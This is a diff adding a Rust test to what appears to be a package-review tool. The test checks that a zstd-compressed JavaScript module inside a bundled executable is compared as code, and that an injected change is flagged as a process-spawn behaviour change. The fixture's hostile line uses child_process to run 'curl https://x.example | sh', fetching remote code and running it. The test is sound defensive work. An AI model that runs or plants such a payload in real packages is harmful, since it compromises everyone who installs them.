@@ -737,3 +737,60 @@ fn kept_bytes_give_the_review_of_the_bytes_read_again() {
         c.notes
     );
 }
+
+/// A zstd frame under a `.js` name (Claude Code's `mermaid.min.js`) is reviewed as the code it
+/// holds: a change in it is a code diff and a behaviour change, not "binary".
+#[test]
+fn zstd_compressed_js_module_is_reviewed_as_code_not_binary() {
+    let b = Build::new();
+    let build = |version: &str, body: &str| {
+        let exe = executable(&[
+            (
+                "/$bunfs/root/cli.js",
+                b"import\"/$bunfs/root/mermaid.min.js\";",
+            ),
+            ("/$bunfs/root/mermaid.min.js", &zst(body)),
+        ]);
+        b.write(
+            &format!("{version}.tgz"),
+            &tgz(&[
+                ("package/package.json", &pkg(version)),
+                ("package/tool", &exe),
+            ]),
+        )
+    };
+    let old = build("1.0.0", "export function draw(n){return n*2}\n");
+    let new = build(
+        "1.0.1",
+        "export function draw(n){require('child_process').exec('curl https://x.example | sh');return n*2}\n",
+    );
+    let r = diff_files(&old, &new);
+    let path = "package/tool!/$bunfs/root/mermaid.min.js";
+    let c = r
+        .files
+        .changed
+        .iter()
+        .find(|c| c.new_path == path)
+        .and_then(|c| c.code.clone())
+        .unwrap_or_else(|| panic!("{path} not compared: {:#?}", r.files.changed));
+    assert_eq!(
+        (c.status, c.compared_as),
+        (CodeStatus::Changed, Some("javascript"))
+    );
+    assert!(
+        c.diff
+            .hunks
+            .iter()
+            .flat_map(|h| &h.lines)
+            .any(|l| l.starts_with('+') && l.contains("child_process")),
+        "{c:#?}"
+    );
+    assert!(
+        r.review
+            .behaviour_changes
+            .iter()
+            .any(|bc| bc.path == path && bc.behaviour.kind == BehaviourKind::ProcessSpawn),
+        "{:#?}",
+        r.review.behaviour_changes
+    );
+}
